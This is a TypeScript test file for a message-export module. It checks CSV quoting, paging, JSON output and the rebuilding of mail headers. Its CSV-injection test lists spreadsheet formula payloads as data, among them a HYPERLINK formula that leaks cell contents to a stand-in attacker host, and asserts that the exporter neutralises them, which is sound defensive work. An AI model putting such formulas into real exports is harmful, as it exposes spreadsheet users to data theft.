import { expect, test } from 'vitest';
import type { MessageSummary } from '../../../contract/schemas.ts';
import { message, nextId } from '../../store/conformance/samples.ts';
import { createMemoryStore } from '../../store/memory/memory-store.ts';
import { asCsv, asJson, asNdjson, csvLine } from './export.ts';
import { formerHead } from './headers.ts';

// RFC 4180 2: quotes around what holds a comma, a quote or a line end, and quotes doubled; CRLF at the end.
test.each([
  [['a', 'b'], 'a,b\r\n'],
  [['a,b', 'say "x"', 'two\r\nlines'], '"a,b","say ""x""","two\r\nlines"\r\n'],
  [['', ''], ',\r\n'],
  [['Grüße 仓库'], 'Grüße 仓库\r\n'],
])('%j', (cells, line) => {
  expect(csvLine(cells)).toBe(line);
});

// https://owasp.org/www-community/attacks/CSV_Injection
test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://evil.example/?"&A1)'])(
  'a spreadsheet takes %j for text',
  (cell) => {
    expect(csvLine([cell]).startsWith(`"'`)).toBe(true);
  },
);

test('everything is written, page by page, and stops when nobody reads on', async () => {
  const store = createMemoryStore();
  for (let n = 0; n < 1_200; n += 1) await store.insert(message({ id: nextId(), subject: `s${n}` }));
  const pieces: string[] = [];
  for await (const piece of asCsv(store, { order: 'oldest' })) pieces.push(piece);
  // The head and three pages.
  expect(pieces).toHaveLength(4);
  expect(pieces.join('').split('\r\n')).toHaveLength(1_202);
  const lines = asNdjson(store, {});
  expect(JSON.parse(String((await lines.next()).value).split('\n')[0] ?? '')).toMatchObject({
    subject: 's1199',
  });
  await lines.return(undefined);
  expect((await lines.next()).done).toBe(true);
});

test.each([
  [11, 11],
  [1_000, 1_000],
  [1_001, 1_000],
])('of %i recipients an export names %i, and tells how many there are', async (count, named) => {
  const store = createMemoryStore();
  const recipients = Array.from({ length: count }, (_, n) => `user${n}@contoso.com`);
  await store.insert(message({ id: nextId(), recipients }));
  const [row] = (await Array.fromAsync(asNdjson(store, {}))).map(
    (line) => JSON.parse(line) as MessageSummary,
  );
  expect(row?.recipients).toEqual(recipients.slice(0, named));
  expect(row?.recipientCount).toBe(count);
  const table = (await Array.fromAsync(asCsv(store, {}))).join('');
  expect(table).toContain(`,${recipients.slice(0, named).join(' ')},${count},`);
});

// RFC 8259: one value; pages are an inner matter.
test.each([0, 1, 500, 501, 1_100])('%i messages are one JSON array', async (count) => {
  const store = createMemoryStore();
  for (let n = 0; n < count; n += 1) await store.insert(message({ id: nextId(), subject: `s${n}` }));
  let text = '';
  for await (const piece of asJson(store, { order: 'oldest' })) text += piece;
  const found = JSON.parse(text) as readonly { readonly subject: string }[];
  expect(found.map(({ subject }) => subject)).toEqual(Array.from({ length: count }, (_, n) => `s${n}`));
});

test('the former section is put together again from what was replaced', () => {
  const after = Buffer.from('Received: us\r\nSubject: new\r\nTo: b\r\n');
  const above = 'Received: us\r\n'.length;
  const at = above;
  const replaced = [
    { at, length: 'Subject: new\r\n'.length, before: 'Subject: old one\r\n' },
    { at: after.length, length: 0, before: 'Bcc: secret\r\n' },
  ];
  expect(formerHead(after, { above, replaced })).toBe('Subject: old one\r\nTo: b\r\nBcc: secret\r\n');
  expect(formerHead(after, { above })).toBe('Subject: new\r\nTo: b\r\n');
  expect(formerHead(after, { above, isCut: true })).toBeUndefined();
});
